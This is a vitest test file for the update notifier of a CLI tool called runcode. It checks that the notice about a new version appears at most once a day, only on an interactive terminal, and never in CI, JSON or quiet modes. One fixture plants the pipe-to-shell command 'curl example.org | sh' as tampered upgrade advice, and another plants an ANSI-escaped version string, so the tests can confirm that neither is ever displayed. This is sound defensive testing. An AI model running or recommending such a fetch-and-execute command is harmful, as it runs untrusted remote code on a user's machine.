// The word about a newer version: to a person at a terminal, once a day, and never to anybody else. Everything runs the
// built program on a real terminal; the background check is awaited at the server that it asks.
import { watch } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import { BINARY, copyProgram, testHome, type TestHome } from "../harness/index.ts";
import { answering, testRelease, type TestRelease } from "../install/release.ts";

const NEXT = "99.0.0";
const DAY = 24 * 3600 * 1000;
const WORD = `runcode ${NEXT} is out`;
let served: string;
let release: TestRelease;
let program: string;
beforeAll(async () => {
  served = await mkdtemp(path.join(os.tmpdir(), "rc-release-"));
  release = await testRelease(served, { program: answering(NEXT), version: NEXT });
  program = path.join(served, "bin/runcode");
  for (const dir of ["bin", "share/runcode"]) await mkdir(path.join(served, dir), { recursive: true });
  await copyProgram(BINARY, program);
  await writeFile(path.join(served, "share/runcode/install.json"), '{"method":"script","target":"linux_x64"}');
});
afterAll(async () => {
  await release.close();
  await rm(served, { recursive: true });
});

let home: TestHome;
let cache: string;
beforeEach(async () => {
  home = await testHome();
  cache = path.join(home.dir, ".cache/runcode");
  await mkdir(cache, { recursive: true });
  release.requests.length = 0;
});
afterEach(() => home.remove());

interface Known {
  checked_at: number;
  told_at: number;
  latest: string | null;
  advice: string | null;
}
const file = (): string => path.join(cache, "newer-version.json");
const know = (known: Partial<Known> = {}): Promise<void> =>
  writeFile(
    file(),
    JSON.stringify({ checked_at: Date.now(), told_at: 0, latest: NEXT, advice: "runcode upgrade", ...known }),
  );

/** Runs it with all three streams on one terminal; gives what the person saw. */
async function seen(words: readonly string[], env: Record<string, string> = {}): Promise<string> {
  let text = "";
  const child = Bun.spawn([program, ...words], {
    env: { ...home.env, RUNCODE_DOWNLOAD_BASE: release.base, ...env },
    cwd: home.dir,
    terminal: { cols: 120, rows: 40, data: (_, data) => void (text += Buffer.from(data).toString()) },
  });
  await child.exited;
  child.terminal?.close();
  return text;
}

test("a person is told once, with the command that upgrades", async () => {
  await know();
  const first = await seen(["clean"]);
  expect(first).toContain(WORD);
  expect(first).toContain("runcode upgrade");
  expect(await seen(["clean"])).not.toContain(WORD);
  await know({ told_at: Date.now() - DAY - 1 });
  expect(await seen(["clean"])).toContain(WORD);
  expect(release.requests).toEqual([]);
});

test("the first command asks in the background, once, and a later one tells", async () => {
  const learned = new Promise<void>((resolve) => {
    const watcher = watch(cache, () => {
      void readFile(file(), "utf8").then(
        (text) => {
          if (!text.includes(NEXT)) return;
          watcher.close();
          resolve();
        },
        () => {},
      );
    });
  });
  expect(await seen(["clean"])).not.toContain(WORD);
  // It may have the answer already, and tell then; only the answer itself is sure to be there later.
  const soon = await seen(["clean"]);
  await learned;
  expect(release.requests).toEqual(["/latest/download/version.txt"]);
  const later = await seen(["clean"]);
  expect([soon, later].filter((text) => text.includes(WORD))).toHaveLength(1);
});

test.each<[string, readonly string[], Record<string, string>]>([
  ["in CI", ["clean"], { CI: "true" }],
  ["where it was switched off", ["clean"], { RUNCODE_NO_UPDATE_NOTIFIER: "1" }],
  ["with --json", ["clean", "--json"], {}],
  ["with --quiet", ["clean", "--quiet"], {}],
  ["after exec", ["exec", "--", "true"], {}],
  ["after ssh", ["ssh", "nobody"], {}],
  ["after proxy", ["proxy", "nobody"], {}],
  ["after statusline", ["statusline"], {}],
  ["after current", ["current"], {}],
  ["after status", ["status"], {}],
  ["after help", ["clean", "--help"], {}],
])("nothing is said and nothing is asked %s", async (_, words, env) => {
  await know({ checked_at: 0 });
  const before = await readFile(file(), "utf8");
  expect(await seen(words, env)).not.toContain(WORD);
  // A check that had begun would have been noted before the program ended.
  expect(await readFile(file(), "utf8")).toBe(before);
  expect(release.requests).toEqual([]);
});

test("nothing is said and nothing is asked where stderr is no terminal", async () => {
  await know({ checked_at: 0 });
  const before = await readFile(file(), "utf8");
  const child = Bun.spawn([program, "clean"], { env: home.env, stdin: "ignore", stdout: "pipe", stderr: "pipe" });
  expect(await new Response(child.stderr).text()).toBe("");
  await child.exited;
  expect(await readFile(file(), "utf8")).toBe(before);
});

test.each([
  ["an older version", { latest: "0.0.1" }],
  ["a build that nobody can upgrade for", { advice: null }],
  ["words that are no version", { latest: "\u001b[31m99.0.0" }],
  ["advice that is not ours", { advice: "curl example.org | sh" }],
])("nothing is said about %s", async (_, known) => {
  await know(known);
  expect(await seen(["clean"], { RUNCODE_DOWNLOAD_BASE: "http://127.0.0.1:1" })).not.toMatch(/is out/);
});
